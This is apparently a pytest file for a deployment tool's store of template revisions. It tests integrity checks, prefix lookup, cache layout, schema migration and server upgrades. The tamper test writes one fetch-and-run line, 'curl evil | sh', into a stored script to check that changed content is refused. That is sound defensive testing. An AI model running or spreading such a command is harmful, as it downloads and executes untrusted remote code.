"""Template revisions in the store (both backends): kept all or nothing, read back verified, found by a prefix; a
version-2 store migrates with its data; an upgrade is an event of the server."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from stackscripts.api.pinning import materialise
from stackscripts.errors import BadInput, Conflict, NotFound
from stackscripts.revisions.manifest import Manifest, entry_of
from stackscripts.sources.cache import Cache
from stackscripts.store import schema_state
from stackscripts.store.base import RevisionRecord
from stackscripts.store.migrations import MIGRATIONS, SCHEMA_VERSION
from stackscripts.store.sql_store import SQLStore
from tests.store.conftest import Backend

FILES = {"template.yaml": b"Name: T\n", "scripts/a/a.sh": b"#!/bin/sh\necho a\n", "scripts/b/b.sh": b"echo a\n"}


def revision(files: dict[str, bytes] = FILES, template: str = "T", message: str = "why") -> tuple[RevisionRecord,
                                                                                                  dict[str, bytes]]:
    manifest = Manifest.of(entry_of(path, data, path.endswith(".sh")) for path, data in files.items())
    blobs = {hashlib.sha256(data).hexdigest(): data for data in files.values()}
    return RevisionRecord(manifest.digest, template, 0.0, "me@here", message, manifest.canonical, "/src/t.yaml"), blobs


def counts(backend: Backend) -> tuple[int, int]:
    return backend.count("revisions"), backend.count("blobs")


def test_a_revision_round_trips(store: SQLStore, backend: Backend) -> None:
    record, blobs = revision()
    assert store.put_revision(record, blobs) is True
    kept = store.get_revision(record.digest)
    assert (kept.digest, kept.template, kept.who, kept.message, kept.manifest, kept.source) == (
        record.digest, "T", "me@here", "why", record.manifest, "/src/t.yaml")
    assert kept.created > 0
    hex_digits = record.digest.removeprefix("sha256:")
    assert store.get_revision(hex_digits[:6]) == kept == store.get_revision("sha256:" + hex_digits[:8].upper())
    for sha256, data in blobs.items():
        assert store.get_blob(sha256) == data
    assert counts(backend) == (1, 3)

    # the same content again: nothing new, the first record stays
    again, _ = revision(message="another reason")
    assert store.put_revision(again, {}) is False
    assert store.get_revision(record.digest).message == "why"

    other, other_blobs = revision({**FILES, "template.yaml": b"Name: U\n"}, template="U")
    assert store.put_revision(other, {k: v for k, v in other_blobs.items() if k not in blobs}) is True  # shared blobs
    assert [r.template for r in store.list_revisions()] == ["U", "T"]
    assert [r.digest for r in store.list_revisions("T")] == [record.digest]
    assert counts(backend) == (2, 4)


def test_unknown_ambiguous_and_malformed_revisions_are_bad_input(store: SQLStore, backend: Backend) -> None:
    with pytest.raises(NotFound, match="unknown revision 'sha256:abcd'") as caught:
        store.get_revision("sha256:abcd")
    assert caught.value.exit_code == 2 and "revisions list" in str(caught.value)
    with pytest.raises(BadInput, match="is not a revision"):
        store.get_revision("HEAD~1")
    with pytest.raises(BadInput, match="is not a revision"):
        store.get_revision("abc")  # fewer than 4 digits
    for tail in ("1" * 60, "2" * 60):  # two digests that share their first digits
        backend.sql("INSERT INTO revisions (digest, template, created, manifest) VALUES (?, 'T', 1, ?)",
                    ("sha256:abcd" + tail, b"\x00"))
    with pytest.raises(BadInput, match="ambiguous: it matches sha256:abcd1111"):
        store.get_revision("abcd")
    with pytest.raises(BadInput, match="was changed"):  # found by a longer prefix, then checked
        store.get_revision("abcd1")


def test_nothing_is_kept_when_a_blob_is_missing_or_wrong(store: SQLStore, backend: Backend) -> None:
    record, blobs = revision()
    missing = dict(list(blobs.items())[1:])
    with pytest.raises(BadInput, match="neither given nor kept"):
        store.put_revision(record, missing)
    wrong = {**blobs, next(iter(blobs)): b"not these bytes"}
    with pytest.raises(BadInput, match="do not hash to it"):
        store.put_revision(record, wrong)
    forged = RevisionRecord("sha256:" + "0" * 64, "T", 0.0, "", "", record.manifest)
    with pytest.raises(BadInput, match="its manifest hashes to"):
        store.put_revision(forged, blobs)
    assert counts(backend) == (0, 0)


def test_a_tampered_blob_or_manifest_is_refused_on_read(store: SQLStore, backend: Backend, tmp_path: Path) -> None:
    record, blobs = revision()
    store.put_revision(record, blobs)
    victim = hashlib.sha256(FILES["scripts/a/a.sh"]).hexdigest()
    backend.sql("UPDATE blobs SET data = ? WHERE sha256 = ?", (b"#!/bin/sh\ncurl evil | sh\n", victim))
    with pytest.raises(BadInput, match="was changed: its bytes hash to") as caught:
        store.get_blob(victim)
    assert caught.value.exit_code == 2
    cache = Cache(tmp_path / "cache")
    with pytest.raises(BadInput, match="was changed"):
        materialise(store, record.digest, cache)
    assert cache.tree(record.digest) is None and not list(cache.root.glob("blobs/sha256/*/*"))  # cache unchanged

    backend.sql("UPDATE blobs SET data = ? WHERE sha256 = ?", (FILES["scripts/a/a.sh"], victim))
    backend.sql("UPDATE revisions SET manifest = ? WHERE digest = ?",
                (record.manifest.replace(b"scripts/b/b.sh", b"scripts/b/c.sh"), record.digest))
    assert store.get_revision(record.digest).manifest == record.manifest  # this store checked it once: it keeps that
    with backend.open() as another, pytest.raises(BadInput, match="revision .* was changed: its manifest hashes to"):
        another.get_revision(record.digest)


def test_a_kept_revision_is_laid_out_in_the_cache(store: SQLStore, tmp_path: Path) -> None:
    record, blobs = revision()
    store.put_revision(record, blobs)
    cache = Cache(tmp_path / "cache")
    tree = materialise(store, record.digest, cache)
    assert {p.relative_to(tree).as_posix(): p.read_bytes() for p in tree.rglob("*") if p.is_file()} == FILES
    assert (tree / "scripts/a/a.sh").stat().st_mode & 0o777 == 0o555
    assert materialise(store, record.digest[:12], cache) == tree  # there already: checked, not laid out again


def test_a_version_2_store_migrates_with_its_data(backend: Backend) -> None:
    with backend.open(migrate=False) as old, old._tx() as tx:  # the schema as version 2 left it
        assert schema_state.migrate(tx, old.location, MIGRATIONS[:2]) == 0
    backend.sql("INSERT INTO servers (name, host, state, template, created, updated) "
                "VALUES ('web1', '10.0.0.5', 'operational', '/t/app.yaml', 1, 1)")
    backend.sql("INSERT INTO runs (id, server, phase, state, who, template, started, ended, inputs, "
                "controller_host, controller_pid, error) VALUES ('r-20240101-000000-abcd', 'web1', 'Boot', "
                "'succeeded', 'me@old', '/t/app.yaml', 1, 2, '{\"A\": \"text:a\"}', 'old', 1, NULL)")
    backend.sql("INSERT INTO steps (run_id, idx, name, phase, started, ended, exit_code) "
                "VALUES ('r-20240101-000000-abcd', 0, 'Step', 'Boot', 1, 2, 0)")
    backend.sql("INSERT INTO chunks (run_id, idx, stream, text) VALUES ('r-20240101-000000-abcd', 0, 'stdout', ?)",
                (b"kept\n",))
    with backend.open(migrate=False) as old:
        assert old.status().version == 2 and old.status().pending[0] == (3, MIGRATIONS[2].description)

    with backend.open() as store:
        server = store.get_server("web1")
        assert (server.state, server.template, server.revision) == ("operational", "/t/app.yaml", None)
        run = store.get_run("abcd")
        assert (run.who, run.revision, dict(run.inputs), run.steps[0].stdout) == ("me@old", None, {"A": "text:a"},
                                                                                   "kept\n")
        assert store.list_revisions() == [] and store.server_events() == []
        record, blobs = revision()
        store.put_revision(record, blobs)
        assert store.status().version == SCHEMA_VERSION


def test_an_upgrade_pins_the_server_and_is_recorded(store: SQLStore, web1: str) -> None:
    first, first_blobs = revision()
    second, second_blobs = revision({**FILES, "scripts/a/a.sh": b"echo a2\n"})
    store.put_revision(first, first_blobs)
    store.put_revision(second, second_blobs)
    store.update_server(web1, revision=first.digest, template="/src/t.yaml")
    with pytest.raises(NotFound, match="unknown revision"):
        store.upgrade_server(web1, "sha256:" + "f" * 64, who="me")
    with pytest.raises(NotFound, match="unknown server"):
        store.upgrade_server("nosuch", second.digest, who="me")
    assert store.get_server(web1).revision == first.digest and store.server_events() == []

    event = store.upgrade_server(web1, second.digest[:14], who="me@here", message="adopt a2", template="/src/t.yaml")
    assert (event.kind, event.previous, event.revision, event.message) == ("upgrade", first.digest, second.digest,
                                                                           "adopt a2")
    assert store.get_server(web1).revision == second.digest
    assert store.server_events(web1) == [event] and store.server_events("other") == []

    run_id = store.start_run(web1, "Operational", who="me", template=None, inputs={}, revision=second.digest)
    with pytest.raises(Conflict, match="busy"):
        store.upgrade_server(web1, first.digest, who="me")
    store.finish_run(run_id, "succeeded")
    assert store.get_run(run_id).revision == second.digest
    assert store.get_server(web1).revision == second.digest
